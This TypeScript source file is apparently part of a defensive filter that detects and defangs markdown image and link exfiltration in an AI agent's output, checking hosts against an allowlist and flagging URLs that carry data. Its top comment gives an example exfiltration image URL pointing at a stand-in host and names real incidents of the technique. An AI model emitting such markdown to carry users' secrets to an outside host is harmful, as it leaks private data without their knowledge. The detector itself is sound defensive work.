// Markdown image/link exfiltration: `![](https://evil.test/p?q=<secret>)` leaks data when the agent's UI
// renders it, with no request passing the allowlist (Bing Chat 2023, M365 Copilot EchoLeak CVE-2025-32711).
// A link or image is defanged when its host is not allowed by the policy AND the URL carries data.
import type { Edit } from './unicode.ts';

// Bounded quantifiers over disjoint classes: linear in practice on attacker text.
const INLINE = /(!?)\[([^\]\n]{0,500})\]\(\s*<?((?:https?:)?\/\/[^\s)>]{1,4096})>?(?:\s+(?:"[^"\n]{0,200}"|'[^'\n]{0,200}'))?\s*\)/g;
const REFERENCE = /^( {0,3}\[[^\]\n]{1,200}\]:\s*)<?((?:https?:)?\/\/[^\s>]{1,4096})>?/gm;
const MIN_DATA_PATH = 40;

export interface MarkdownHit extends Edit {
  readonly image: boolean;
}

/** Does this URL carry data (query, fragment, long or token-like path)? */
export function carriesData(url: URL): boolean {
  if (url.search.length > 1 || url.hash.length > 1) return true;
  if (url.username !== '' || url.password !== '') return true;
  if (url.pathname.length >= MIN_DATA_PATH) return true;
  return url.pathname.split('/').some((seg) => seg.length >= 24 || /[A-Za-z0-9+_-]{16,}={0,2}$/.test(seg));
}

function parseUrl(raw: string): URL | null {
  try {
    return new URL(raw.startsWith('//') ? `https:${raw}` : raw);
  } catch {
    return null;
  }
}

function blockedHost(raw: string, isHostAllowed: (host: string) => boolean): string | null {
  const url = parseUrl(raw);
  if (url === null) return 'invalid-url';
  const host = url.hostname.replace(/^\[|\]$/g, '').replace(/\.$/, '').toLowerCase();
  if (isHostAllowed(host)) return null;
  return carriesData(url) ? host : null;
}

/** Find markdown images and links to be defanged; the replacement keeps the text and names the host. */
export function findMarkdownExfil(text: string, isHostAllowed: (host: string) => boolean): MarkdownHit[] {
  if (!text.includes('](') && !text.includes(']:')) return [];
  const out: MarkdownHit[] = [];
  INLINE.lastIndex = 0;
  for (let m = INLINE.exec(text); m !== null; m = INLINE.exec(text)) {
    const host = blockedHost(m[3]!, isHostAllowed);
    if (host === null) continue;
    const bang = m[1]!;
    out.push({ start: m.index, end: m.index + m[0].length, replacement: `${bang}[${m[2]!}](blocked: ${host})`, image: bang === '!' });
  }
  REFERENCE.lastIndex = 0;
  for (let m = REFERENCE.exec(text); m !== null; m = REFERENCE.exec(text)) {
    const host = blockedHost(m[2]!, isHostAllowed);
    if (host === null) continue;
    out.push({ start: m.index, end: m.index + m[0].length, replacement: `${m[1]!}blocked: ${host}`, image: false });
  }
  return out;
}
